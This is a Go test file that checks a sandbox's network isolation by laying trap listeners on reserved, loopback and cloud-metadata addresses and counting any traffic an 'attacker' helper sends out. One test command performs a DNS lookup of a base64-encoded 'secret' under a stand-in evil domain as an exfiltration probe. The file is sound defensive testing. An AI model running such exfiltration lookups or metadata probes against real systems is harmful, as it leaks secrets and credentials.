package oci_test

import (
	"errors"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
	"unsafe"

	specs "github.com/opencontainers/runtime-spec/specs-go"
	"golang.org/x/sys/unix"

	"github.com/daybreak-agent/daybreak/internal/sandbox"
	"github.com/daybreak-agent/daybreak/internal/sandbox/oci"
)

// ownNetwork marks the copy of this test that runs in a network namespace of its own.
const ownNetwork = "DAYBREAK_ATTACK_NETNS"

// inOwnNetwork runs the calling test again in a network namespace of its own, where it may
// have any address, and reports whether this is that copy.
func inOwnNetwork(t *testing.T) bool {
	t.Helper()
	if os.Getenv(ownNetwork) != "" {
		return true
	}
	if os.Geteuid() != 0 {
		lacking(t, "a network namespace for the trap servers needs root")
	}
	cmd := exec.Command(os.Args[0], "-test.run=^"+t.Name()+"$", "-test.v")
	cmd.Env = append(os.Environ(), ownNetwork+"=1")
	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWNET}
	out, err := cmd.CombinedOutput()
	switch {
	case err != nil:
		t.Fatalf("in a network of its own: %v\n%s", err, out)
	case strings.Contains(string(out), "--- SKIP"):
		t.Skipf("%s", out)
	case !strings.Contains(string(out), "--- PASS: "+t.Name()):
		t.Fatalf("it did not run:\n%s", out)
	}
	return false
}

// trapAddresses stand for the hosts that a sandbox must never reach: a host of evil, a
// resolver, and the metadata services of clouds.
func trapAddresses() []string {
	return []string{"192.0.2.66", "198.51.100.53", "169.254.169.254", "fd00:ec2::254", "127.0.0.1", "::1"}
}

// traps listen at all those addresses and count what arrives.
type traps struct {
	frames atomic.Int64 // of every kind, seen on the loopback of the test's network
	hits   atomic.Int64 // streams and datagrams at the traps
	hit    chan struct{}
}

func (tr *traps) count() {
	tr.hits.Add(1)
	select {
	case tr.hit <- struct{}{}:
	default:
	}
}

// lay makes the addresses this namespace's own and listens on each.
func lay(t *testing.T) *traps {
	t.Helper()
	for i, a := range trapAddresses() {
		addLoopback(t, i, netip.MustParseAddr(a))
	}
	tr := &traps{hit: make(chan struct{}, 1)}
	// A new IPv6 address is not this host's own at once.
	early := net.ListenConfig{Control: func(network, _ string, c syscall.RawConn) (err error) {
		if strings.HasSuffix(network, "6") {
			cerr := c.Control(func(fd uintptr) { err = unix.SetsockoptInt(int(fd), unix.IPPROTO_IPV6, unix.IPV6_FREEBIND, 1) })
			err = errors.Join(err, cerr)
		}
		return err
	}}
	for _, a := range trapAddresses() {
		for _, port := range []string{"53", "80", "443", "5353", "5355"} {
			l, err := early.Listen(t.Context(), "tcp", net.JoinHostPort(a, port))
			if err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() { l.Close() })
			go func() {
				for {
					c, err := l.Accept()
					if err != nil {
						return
					}
					tr.count()
					c.Close()
				}
			}()
			u, err := early.ListenPacket(t.Context(), "udp", net.JoinHostPort(a, port))
			if err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() { u.Close() })
			go func() {
				b := make([]byte, 2048)
				for {
					if _, _, err := u.ReadFrom(b); err != nil {
						return
					}
					tr.count()
				}
			}()
		}
	}
	tr.sniff(t)
	return tr
}

// sniff counts every frame on any interface of the namespace.
func (tr *traps) sniff(t *testing.T) {
	t.Helper()
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, int(uint16(0x0300))) // every protocol, in network order
	if err != nil {
		t.Fatal(err)
	}
	f := os.NewFile(uintptr(fd), "frames")
	if err := unix.SetNonblock(fd, false); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	go func() {
		b := make([]byte, 1<<16)
		for {
			if _, _, err := unix.Recvfrom(fd, b, 0); err != nil {
				return
			}
			tr.frames.Add(1)
		}
	}()
}

// addLoopback brings the loopback up with one more address.
func addLoopback(t *testing.T, alias int, a netip.Addr) {
	t.Helper()
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer unix.Close(fd)
	var up struct {
		name  [16]byte
		flags uint16
		_     [22]byte
	}
	copy(up.name[:], "lo")
	up.flags = unix.IFF_UP
	ioctl(t, fd, unix.SIOCSIFFLAGS, unsafe.Pointer(&up))
	if a.IsLoopback() {
		return
	}
	if a.Is4() {
		var req struct {
			name [16]byte
			addr unix.RawSockaddrInet4
			_    [8]byte
		}
		copy(req.name[:], "lo:"+string(rune('a'+alias)))
		req.addr.Family, req.addr.Addr = unix.AF_INET, a.As4()
		ioctl(t, fd, unix.SIOCSIFADDR, unsafe.Pointer(&req))
		return
	}
	six, err := unix.Socket(unix.AF_INET6, unix.SOCK_DGRAM, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer unix.Close(six)
	req := struct {
		addr   [16]byte
		prefix uint32
		index  int32
	}{a.As16(), 128, 1}
	ioctl(t, six, unix.SIOCSIFADDR, unsafe.Pointer(&req))
}

func ioctl(t *testing.T, fd int, request uintptr, arg unsafe.Pointer) {
	t.Helper()
	if _, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), request, uintptr(arg)); errno != 0 {
		t.Fatalf("ioctl %#x: %v", request, errno)
	}
}

// knocking runs the attacker with the real profile or without the network namespace, and
// returns what arrived.
func knocking(t *testing.T, tr *traps, command string, off bool) (out string, hits, frames int64) {
	t.Helper()
	r := target(t)
	if off {
		oci.Alter(r, noNamespace(specs.NetworkNamespace))
	}
	b := begin(t, r, sandbox.Spec{Tree: armed(t, nil)})
	defer end(t, b)
	select {
	case <-tr.hit:
	default:
	}
	h, f := tr.hits.Load(), tr.frames.Load()
	out = does(t, b, command)
	if off && tr.hits.Load() == h { // the traps take a moment to count
		select {
		case <-tr.hit:
		case <-time.After(5 * time.Second):
		}
	}
	return out, tr.hits.Load() - h, tr.frames.Load() - f
}

// Nothing that a sandbox sends arrives anywhere: the traps and a look at every frame of the
// namespace beside it see nothing, and see all of it where the layer is off.
func TestDirectConnections_NET01(t *testing.T) {
	if !inOwnNetwork(t) {
		return
	}
	trapRuns(t, "./attacker knock "+strings.Join(trapAddresses(), " "))
}

// There is no resolver, and none can be reached: names go nowhere.
func TestNames_NET02(t *testing.T) {
	if !inOwnNetwork(t) {
		return
	}
	trapRuns(t, "./attacker hosts; getent hosts c2VjcmV0.evil.test; ./attacker knock 198.51.100.53 192.0.2.66")
}

func trapRuns(t *testing.T, command string) {
	t.Helper()
	tr := lay(t)
	control, hits, frames := knocking(t, tr, command, true)
	out, realHits, realFrames := knocking(t, tr, command, false)
	if realHits != 0 || realFrames != 0 {
		t.Fatalf("%d frames left the sandbox, %d reached a trap: %s", realFrames, realHits, out)
	}
	if hits == 0 || frames == 0 {
		t.Skipf("not exercised: without the layer nothing arrives either: %s", oneLine(control))
	}
	if strings.Contains(out, "tcp_192.0.2.66:80 ok") || strings.Contains(out, "udp_192.0.2.66:53 ok") || strings.Contains(out, "lookup_evil.test ok") {
		t.Errorf("a way out is believed to work: %s", out)
	}
	if !gvisor() && said(out, "tcp_192.0.2.66:80") != "ENETUNREACH" {
		t.Errorf("stopped by something else than the missing route: %s", out)
	}
	if last, again, _ := knocking(t, tr, command, true); again == 0 {
		t.Errorf("with the layer off again nothing arrives, so the test shows nothing: %s", last)
	}
}
